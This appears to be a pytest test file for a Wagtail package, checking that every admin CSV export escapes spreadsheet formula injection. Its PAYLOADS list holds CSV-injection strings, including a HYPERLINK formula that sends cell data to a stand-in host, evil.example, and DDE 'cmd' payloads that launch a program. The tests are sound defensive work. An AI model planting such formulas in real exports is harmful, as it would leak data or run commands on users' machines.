"""Every CSV the package writes is formula-safe.

The admin exports are found from the URL resolver (tests/admin_urls.py): each
package admin URL is asked for ``?export=csv`` by a superuser, over data whose
every text field holds a formula; whatever answers with CSV must hold none.
"""

import csv
import io
import re

import pytest

from tests.admin_urls import make_one_of_each, package_admin_urls
from wagtail_journey import safe_csv

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = tuple(safe_csv.FORMULA_STARTS)


def is_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate (a bare number is just a number)."""
    return cell.startswith(DANGEROUS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_formulas(payload):
    cell = safe_csv.safe_cell(payload)
    assert cell == "'" + payload
    assert not cell.startswith(DANGEROUS)


@pytest.mark.parametrize("value", ["Ana", "", "-5", "+3.25", 42, -7, None, "a=b", "x-y"])
def test_safe_cell_keeps_plain_values(value):
    assert safe_csv.safe_cell(value) == value


def test_writers_neutralise_every_cell_and_the_header():
    out = io.StringIO()
    safe_csv.writer(out).writerows([PAYLOADS, [1, -2, "ok"]])
    dict_out = io.StringIO()
    writer = safe_csv.DictWriter(dict_out, fieldnames=["=bad", "ok"])
    writer.writeheader()
    writer.writerow({"=bad": "@x", "ok": -1})
    for text in (out.getvalue(), dict_out.getvalue()):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not is_formula(cell), cell
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["1", "-2", "ok"]


@pytest.fixture
def hostile_data(home_page):
    """One row of each model, its text fields holding formulas."""
    from wagtail_journey.models import (
        ConsentPurpose,
        Contact,
        FormSubmission,
        PageJourneyStage,
        ScoringRule,
        Segment,
    )

    objects = make_one_of_each(home_page)
    home_page.title = PAYLOADS[0]
    home_page.save_revision().publish()
    Contact.objects.update(first_name=PAYLOADS[1], last_name=PAYLOADS[3], email="-2+3@example.com")
    FormSubmission.objects.update(
        form_name=PAYLOADS[0], data={"message": PAYLOADS[3], "first_name": PAYLOADS[4]}
    )
    Segment.objects.update(name=PAYLOADS[0], description=PAYLOADS[5])
    ScoringRule.objects.update(name=PAYLOADS[1])
    ConsentPurpose.objects.update(name=PAYLOADS[2])
    PageJourneyStage.objects.all()  # its text is the page title above
    return objects


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_every_admin_csv_export_is_formula_safe(admin_client, hostile_data):
    exported = {}
    for admin_url in package_admin_urls():
        response = admin_client.get(admin_url.url, {"export": "csv"})
        if response.status_code != 200 or "text/csv" not in response.get("Content-Type", ""):
            continue
        rows = csv_rows(response)
        exported[admin_url.name] = rows
        for row in rows:
            for cell in row:
                assert not is_formula(cell), (admin_url.name, cell)
    # The exports that exist today were among them, and held the hostile text.
    submissions = exported["wagtail_journey_formsubmission_modeladmin_index"]
    assert any(cell == "'" + PAYLOADS[0] for row in submissions for cell in row)
    assert "wagtail_journey_audience" in exported
    audience = exported["wagtail_journey_audience"]
    assert any(cell == "'" + PAYLOADS[0] for row in audience for cell in row)  # the page title


def test_every_exporting_admin_view_uses_the_safe_writer():
    """Also the exports no data reaches in the test above (a listing without list_export yet)."""
    from django.urls import resolve
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from wagtail_journey.admin.exports import FormulaSafeExportMixin

    checked = 0
    for admin_url in package_admin_urls(require_objects=False):
        view = resolve(admin_url.url).func
        if hasattr(view, "journey_guarded_model"):  # the permission guard
            view = view.journey_view
        view_class = getattr(view, "view_class", None)
        if view_class is None and hasattr(view, "__self__"):  # a ModelAdmin's bound view
            name = view.__name__.removesuffix("_view")
            view_class = getattr(view.__self__, f"{name}_view_class", None)
        if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
            assert issubclass(view_class, FormulaSafeExportMixin), admin_url.name
            checked += 1
    assert checked >= 12  # every listing, snippet listing and the Audience report
